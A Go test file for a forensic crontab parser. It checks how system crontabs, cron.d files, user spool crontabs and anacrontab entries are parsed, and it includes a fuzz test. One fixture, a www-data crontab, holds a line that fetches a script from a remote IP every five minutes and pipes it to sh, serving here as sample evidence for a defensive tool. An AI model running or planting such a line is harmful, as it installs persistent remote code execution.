package evidence

import (
	"fmt"
	"testing"
	"time"
)

func TestCrontabs(t *testing.T) {
	for _, c := range []struct {
		path, content string
		want          []string // action schedule user command
		damaged       int
	}{
		{"etc/crontab", "SHELL=/bin/sh\n# m h dom mon dow user command\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n@reboot alice /srv/x\n", []string{
			"environment|||SHELL=/bin/sh", "job|17 *\t* * *|root|cd / && run-parts --report /etc/cron.hourly", "job|@reboot|alice|/srv/x"}, 0},
		{"etc/cron.d/e2scrub", "30 3 * * 0 root test -e /run/systemd/system || /sbin/e2scrub\n", []string{"job|30 3 * * 0|root|test -e /run/systemd/system || /sbin/e2scrub"}, 0},
		{"var/spool/cron/crontabs/www-data", "*/5 * * * * curl -s http://198.18.0.7/x | sh\n@daily id\n", []string{"job|*/5 * * * *|www-data|curl -s http://198.18.0.7/x | sh", "job|@daily|www-data|id"}, 0},
		{"var/spool/cron/root", "0 0 1 JAN mon-fri /x\nnonsense\n", []string{"job|0 0 1 JAN mon-fri|root|/x"}, 1},
		{"etc/anacrontab", "START_HOURS_RANGE=3-22\n1 5 cron.daily nice run-parts /etc/cron.daily\n", []string{"environment|||START_HOURS_RANGE=3-22", "job|1 5 cron.daily||nice run-parts /etc/cron.daily"}, 0},
		{"exported.txt", "* * * * * root /srv/x\n", []string{"job|* * * * *|root|/srv/x"}, 0},
	} {
		if !isCrontab([]byte(c.content), c.path) {
			t.Errorf("%s: not recognised", c.path)
		}
		got, facts := readAll(t, readCrontab, c.path, []byte(c.content), time.Time{})
		var have []string
		for _, r := range got {
			have = append(have, r.Fields["action"]+"|"+r.Fields["schedule"]+"|"+r.Fields["user"]+"|"+r.Fields["command"])
			r.want(t, c.path, "@=", "source=linux/crontab/cron")
		}
		if a, b := fmt.Sprintf("%q", have), fmt.Sprintf("%q", c.want); a != b {
			t.Errorf("%s: got  %s\nwant %s", c.path, a, b)
		}
		if len(facts.Damaged) != c.damaged {
			t.Errorf("%s: damage %v", c.path, facts.Damaged)
		}
	}
	for _, text := range []string{"1 2 3 4 5 6\n", "the * of * all * things\n", "", "# only a comment\n", "a=b\n"} {
		if isCrontab([]byte(text), "x.txt") {
			t.Errorf("claimed: %q", text)
		}
	}
}

func FuzzCrontab(f *testing.F) {
	f.Add([]byte("17 * * * * root x\n@reboot y\nA=b\n"), "etc/crontab")
	f.Add([]byte("1 5 cron.daily x"), "etc/anacrontab")
	f.Fuzz(func(t *testing.T, b []byte, name string) {
		isCrontab(b, name)
		readAll(t, readCrontab, name, b, time.Time{})
	})
}
